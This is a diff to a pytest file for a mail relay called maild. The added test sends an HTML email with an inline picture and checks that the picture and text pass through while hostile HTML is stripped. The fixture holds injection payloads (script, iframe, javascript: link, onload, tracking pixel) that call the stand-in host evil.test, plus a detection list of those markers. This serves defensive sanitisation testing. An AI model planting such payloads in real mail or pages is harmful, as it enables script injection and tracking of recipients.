@@ -2,10 +2,12 @@
 
 import csv
 import io
+from email.message import EmailMessage
+from email.utils import format_datetime, parseaddr
 from pathlib import Path
 
 import pytest
-from attacks.desk_at_work import ALLA, ANNA, FORGED, OLGA, one
+from attacks.desk_at_work import ALLA, ANNA, AUTHENTICATED, FORGED, OLGA, one
 
 from maild.cli.export import cell
 from maild.message import harmless_name
@@ -89,6 +91,39 @@ def test_a_formula_is_text_in_a_table(text):
     csv.writer(written).writerow([cell("note", text)])
     (read,) = csv.reader(io.StringIO(written.getvalue()))
     assert read[0] == "'" + text
+
+
+HTML = """<html><head><style>@import url(http://evil.test/s.css)</style></head><body onload="x()">
+<p>It looks <b>so</b>:</p><img src="cid:shot@acme.test"><img src="http://evil.test/pixel.gif?id=1" width=1 height=1>
+<script>alert(1)</script><iframe src="http://evil.test"></iframe><form action="http://evil.test"><input name=a></form>
+<a href="javascript:x()">press</a><div style="display:none;background:url(http://evil.test/b.png)">hidden</div></body></html>"""
+PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
+
+
+def with_picture(desk, sender, to, subject, html=HTML):
+    """A mail whose HTML shows a picture that it carries."""
+    mail = EmailMessage()
+    mail.set_content(html, subtype="html")
+    mail.add_related(PNG, "image", "png", cid="<shot@acme.test>", filename="shot.png", disposition="inline")
+    mail["From"], mail["To"], mail["Subject"] = sender, to, subject
+    mail["Message-ID"], mail["Date"] = f"<{desk.uid}.picture@acme.test>", format_datetime(desk.now)
+    domain = parseaddr(sender)[1].rpartition("@")[2]
+    head = f"Return-Path: <x@{domain}>\r\nAuthentication-Results: {AUTHENTICATED.format(domain=domain)}\r\n"
+    return head.encode() + mail.as_bytes().replace(b"\n", b"\r\n")
+
+
+def test_of_html_the_words_and_the_pictures_go_on_in_both_directions_and_nothing_else(desk):
+    note = one(desk.raw(with_picture(desk, ANNA, "support@vendor.test", "Screen")), "notification")
+    answer = HTML.replace("It looks", "Compare it with mine, it looks")
+    relay = one(desk.raw(with_picture(desk, OLGA, note.reply_to, "Re: [#1] Screen", answer)), "relay")
+    for letter in (note, relay):
+        assert "looks so" in letter.text
+        (picture,) = (part for part in letter.mail.walk() if part.get_content_type() == "image/png")
+        assert (picture.get_content(), picture["Content-ID"]) == (PNG, "<shot@acme.test>")
+        lowered = letter.html.lower()
+        assert not [
+            sign for sign in ("<script", "<iframe", "<form", "javascript:", "onload", "evil.test", "hidden") if sign in lowered
+        ]
 
 
 def test_a_report_tells_no_subject_that_nothing_proves(desk):
